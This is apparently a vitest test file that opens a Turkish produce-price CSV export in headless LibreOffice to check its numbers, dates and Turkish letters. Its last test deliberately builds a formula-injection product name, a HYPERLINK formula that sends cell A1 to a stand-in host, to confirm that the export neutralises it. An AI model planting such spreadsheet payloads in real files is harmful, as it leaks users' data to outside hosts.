/**
 * The CSV export opened in a spreadsheet, as its users open it: LibreOffice Calc (headless)
 * imports both files of real queries from the worker over the suite's build and the cells are
 * read back. The Turkish file (locale=tr) in a Turkish-language import, and the default file
 * imported as it says (dot decimals, English (USA)), hold every price as the API's number, every
 * day as a date and every name letter for letter. As a control, the default file in a Turkish
 * import turns prices into dates or text: the problem locale=tr solves. A product name that
 * starts with `=` stays text, where the same line without neutralisation becomes a formula.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../core/export-columns.ts';
import { stringify } from 'csv-stringify/sync';
import { BOM, CSV_TR, csvLine } from '../../edge/answer/csv.ts';
import { exportCells, type StoredPriceRow } from '../../edge/answer/export-rows.ts';
import { parseCsv } from '../../sources/lib/csv.ts';
import { convertToFods, findSoffice, LANGUAGE, readFods, type SheetCell } from '../support/libreoffice.ts';
import { servedApi } from '../support/served-api.ts';

const soffice = findSoffice();
if (!soffice) {
  console.warn(
    '\n!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n' +
      '!!! SKIPPED: the CSV export was NOT checked in a spreadsheet: LibreOffice (soffice) is\n' +
      '!!! missing. Install it as root: apt-get install -y --no-install-recommends libreoffice-calc\n' +
      '!!! (npm test runs scripts/ensure-libreoffice.sh, which does so where apt-get works).\n' +
      '!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n',
  );
}

/**
 * A large query (ten years of İzmir's tomatoes, some 17,500 rows: the reported problem was a
 * ten-year tomato export) and a small one to compare with /prices row by row. Every market's
 * ten years of tomatoes are more than the export's 20,000 rows.
 */
const QUERIES = {
  large: 'product=domates&market=izmir-sebze-meyve&range=3650d',
  small: 'product=domates&date=2026-07-23',
} as const;
const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
const PRICES = [column('Min Fiyat'), column('Maks Fiyat'), column('Ort Fiyat')];
const TURKISH_LETTERS = /[çğıöşüÇĞİÖŞÜ]/;

type Export = { query: string; turkish: boolean; path: string; rows: string[][] };

const ALL_COLUMNS = EXPORT_COLUMNS.map((_, i) => i);
/** The columns a check of numbers and days needs: the import of the other columns costs time and shows nothing more. */
const NUMBERS_AND_DAYS = [...PRICES, column('Tarih')];

/**
 * Every imported cell of a sheet against the file it came from: prices are numbers equal to the
 * API's (the default file's text, which the route writes with String(number)), Tarih a date of
 * the same day, every other cell the file's text, letter for letter. `columns`: the file's
 * columns the import kept, in order. Returns the mismatches.
 */
function mismatches(sheet: SheetCell[][], file: Export, api: string[][], columns = ALL_COLUMNS): string[] {
  const found: string[] = [];
  file.rows.forEach((cells, r) => {
    columns.forEach((c, at) => {
      const text = cells[c]!;
      let want: SheetCell;
      if (c === column('Dışa Aktarım Zamanı')) return;
      if (r > 0 && PRICES.includes(c)) want = text === '' ? null : { type: 'float', value: Number(api[r]![c]) };
      else if (r > 0 && c === column('Tarih')) want = { type: 'date', value: text };
      else want = text === '' ? null : { type: 'string', value: text };
      const got = sheet[r]?.[at] ?? null;
      if (JSON.stringify(got) !== JSON.stringify(want))
        found.push(`row ${r} ${EXPORT_COLUMNS[c]}: ${JSON.stringify(got)}, want ${JSON.stringify(want)}`);
    });
    if ((sheet[r]?.length ?? 0) > columns.length)
      found.push(`row ${r}: ${sheet[r]!.length} cells, want ${columns.length}`);
  });
  if (sheet.length !== file.rows.length) found.push(`${sheet.length} rows, want ${file.rows.length}`);
  return found;
}

describe.skipIf(!soffice)('the CSV export in LibreOffice Calc', () => {
  const served = servedApi('100.64.0');
  let dir: string;
  const files: Record<string, Export> = {};
  const sheets: Record<string, string> = {};
  let pricesJson: { items: StoredPriceRow[] };
  let largeTotal: number;

  async function download(key: string, query: string, turkish: boolean): Promise<void> {
    const r = await served.client()(`/api/v1/prices/export?${query}${turkish ? '&locale=tr' : ''}`);
    expect(r.status).toBe(200);
    const name = /filename="([^"]+)"/.exec(r.headers.get('content-disposition') ?? '')![1]!;
    const path = join(dir, name);
    writeFileSync(path, r.text);
    files[key] = { query, turkish, path, rows: parseCsv(r.text, turkish ? ';' : ',') };
  }

  /** The first row of the small query, its names hostile, once neutralised by the route's code and once not. */
  function hostileFiles(): string[] {
    const row = {
      ...pricesJson.items[0]!,
      productName: '=HYPERLINK("http://example.invalid/?"&A1;"Domates")',
      marketName: '@SUM(1+1)',
    };
    const cells = exportCells(row, {
      words: true,
      origin: 'http://localhost',
      applied: 'ürün=domates',
      exportedAt: '2026-11-21T03:00:00.000Z',
    });
    const safe = join(dir, 'hostile-neutralised.csv');
    const raw = join(dir, 'hostile-raw.csv');
    writeFileSync(safe, BOM + csvLine([...EXPORT_COLUMNS], CSV_TR) + csvLine(cells, CSV_TR));
    writeFileSync(
      raw,
      BOM +
        csvLine([...EXPORT_COLUMNS], CSV_TR) +
        // The same record without the formula guard.
        stringify([cells.map((c) => String(c ?? ''))], { delimiter: ';', record_delimiter: 'windows' }),
    );
    return [safe, raw];
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'hal-export-'));
    const get = served.client();
    pricesJson = (await get(`/api/v1/prices?${QUERIES.small}&limit=200`)).json();
    largeTotal = (await get(`/api/v1/prices?${QUERIES.large}&limit=1`)).json().meta.total;
    for (const [size, query] of Object.entries(QUERIES)) {
      await download(`${size}-default`, query, false);
      await download(`${size}-tr`, query, true);
    }
    const [safe, raw] = hostileFiles();
    const only = (keep: number[]) => ({ columns: EXPORT_COLUMNS.length, keep });
    const dirOf = (name: string) => (mkdirSync(join(dir, name)), join(dir, name));
    // One soffice per import setting, side by side: each start costs 5–20 seconds. Every cell of the
    // Turkish files; the default files' numbers and days (their text is the Turkish files' text).
    const [tr, plain, control] = await Promise.all([
      convertToFods(
        soffice!,
        [files['large-tr']!.path, files['small-tr']!.path, safe!, raw!],
        { separator: ';', language: LANGUAGE.turkish },
        dirOf('tr'),
      ),
      convertToFods(
        soffice!,
        [files['large-default']!.path, files['small-default']!.path],
        { separator: ',', language: LANGUAGE.englishUs, only: only(NUMBERS_AND_DAYS) },
        dirOf('default'),
      ),
      convertToFods(
        soffice!,
        [files['large-default']!.path],
        { separator: ',', language: LANGUAGE.turkish, only: only([column('Ort Fiyat')]) },
        dirOf('control'),
      ),
    ]);
    Object.assign(sheets, {
      'large-tr': tr[0],
      'small-tr': tr[1],
      'hostile-neutralised': tr[2],
      'hostile-raw': tr[3],
      'large-default': plain[0],
      'small-default': plain[1],
      control: control[0],
    });
  }, 300_000);

  afterAll(() => dir && rmSync(dir, { recursive: true, force: true }));

  it.each(['large', 'small'])(
    "%s query: the Turkish file in a Turkish import holds the API's numbers, dates and every name letter for letter",
    (size) => {
      const api = files[`${size}-default`]!.rows;
      if (size === 'large') expect(api.length - 1).toBe(largeTotal);
      const file = files[`${size}-tr`]!;
      expect(file.rows[0]).toEqual([...EXPORT_COLUMNS]);
      expect(
        file.rows
          .slice(1)
          .filter((r) => TURKISH_LETTERS.test(r[column('Hal')]! + r[column('Şehir')]! + r[column('Ürün')]!)).length,
      ).toBeGreaterThan(0);
      const found = mismatches(readFods(sheets[`${size}-tr`]!), file, api);
      expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
    },
    120_000,
  );

  it.each(['large', 'small'])(
    "%s query: the default file imported as it says (English (USA)) holds the API's numbers and dates",
    (size) => {
      const file = files[`${size}-default`]!;
      const found = mismatches(readFods(sheets[`${size}-default`]!), file, file.rows, NUMBERS_AND_DAYS);
      expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
    },
  );

  it("the small query's prices in the spreadsheet are those of /prices, row by row", () => {
    const byId = new Map(pricesJson.items.map((i) => [i.id, i]));
    const sheet = readFods(sheets['small-tr']!);
    const rows = files['small-tr']!.rows;
    expect(rows.length - 1).toBe(byId.size);
    rows.slice(1).forEach((cells, i) => {
      const item = byId.get(cells[column('Gözlem URL')]!.split('/').at(-1)!)!;
      const floats = PRICES.map((c) => sheet[i + 1]![c]?.value ?? null);
      expect(floats).toEqual([item.minPrice, item.maxPrice, item.avgPrice]);
    });
  });

  it('control: the default file in a Turkish import turns every price with decimals into a date or text', () => {
    const api = files['large-default']!.rows.slice(1).map((r) => r[column('Ort Fiyat')]!);
    const sheet = readFods(sheets.control!).slice(1);
    const wrong = api.filter((text, i) => sheet[i]?.[0]?.type !== 'float' || sheet[i]![0]!.value !== Number(text));
    console.log(
      `control: ${wrong.length} of ${api.length} Ort Fiyat values of ${QUERIES.large} read wrongly in a Turkish import of the default file`,
    );
    expect(wrong.length).toBeGreaterThan(0);
    expect(wrong).toEqual(api.filter((text) => !Number.isInteger(Number(text))));
  });

  it('a product name that starts with = stays text; the same line without neutralisation runs as a formula', () => {
    const safe = readFods(sheets['hostile-neutralised']!)[1]!;
    expect(safe.filter((c) => c?.formula)).toEqual([]);
    expect(safe[column('Ürün')]).toEqual({
      type: 'string',
      value: `'=HYPERLINK("http://example.invalid/?"&A1;"Domates")`,
    });
    expect(safe[column('Hal')]).toEqual({ type: 'string', value: `'@SUM(1+1)` });
    const raw = readFods(sheets['hostile-raw']!)[1]!;
    expect(raw[column('Ürün')]?.formula).toMatch(/HYPERLINK/);
  });
});
